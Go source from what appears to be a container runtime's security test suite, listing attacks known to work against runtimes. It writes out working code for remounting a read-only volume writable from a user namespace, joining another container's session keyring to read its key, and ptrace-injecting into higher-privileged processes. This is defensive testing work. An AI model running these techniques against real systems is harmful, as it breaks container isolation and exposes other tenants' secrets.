package main

import (
	"fmt"
	"os"
	goruntime "runtime"

	"github.com/rtcontainers/rt/internal/defence"
	"golang.org/x/sys/unix"
)

// openAttacks are known to succeed, against the other runtimes, too. They are tried
// with -open only; docs/security.md tells about them.
var openAttacks = []attack{
	{
		name:  "userns-remount-own",
		about: "the root of a user namespace with CAP_SYS_ADMIN makes a mount writable that is read-only by the configuration only",
		kinds: []string{"13.2"},
		mount: func(t *try) string {
			b := t.attacker("remount-writable", "/volume", "file")
			b.userNamespace(hostID)
			b.capabilities("CAP_SYS_ADMIN")
			file := t.write(t.host("volume", "file"), "original")
			t.must(os.Chown(file, hostID, hostID))
			b.bind(t.host("volume"), "/volume", "rbind", "rprivate", "ro", "nosuid", "nodev")
			b.run()
			return t.changed(file)
		},
	},
	{
		name:     "keyring-by-name",
		about:    "a container joins the session keyring of another one, whose id it knows, by its name",
		kinds:    []string{"keyrings"},
		defences: []defence.Name{defence.Keyring},
		mount: func(t *try) string {
			t.ownKeyring()
			a := t.bundle("sh", "-c", "/bin/attacker key-add && touch /added; sleep 100")
			a.start()
			t.await("the key", func() bool { return fileExists(a.root("added")) })
			return tell(t.attacker("key-join", "_ses."+a.id).run(), secret, "read a key of another container")
		},
	},
}

func keyJoin(args []string) error {
	id, err := unix.KeyctlJoinSessionKeyring(args[0])
	if err != nil {
		return fmt.Errorf("join: %w", err)
	}
	fmt.Println("joined", id)
	return keyRead(nil)
}

// traceOthers attaches to the first new process that has more rights than this one,
// and lets it make a device node.
func traceOthers(args []string) error {
	goruntime.LockOSThread()
	own := statusField(os.Getpid(), "CapPrm")
	for {
		for pid := 2; pid < 400; pid++ {
			if unix.PtraceSeize(pid) != nil {
				continue
			}
			if statusField(pid, "CapPrm") > own {
				if err := injectSeized(pid, args[0]); err == nil {
					return nil
				}
				if name, err := os.Hostname(); err == nil && name == injectedName {
					return os.WriteFile("/named", nil, 0o644)
				}
			}
			// Only a stopped one can be let go.
			_ = unix.PtraceInterrupt(pid)
			var ws unix.WaitStatus
			_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
			_ = unix.PtraceDetach(pid)
		}
	}
}
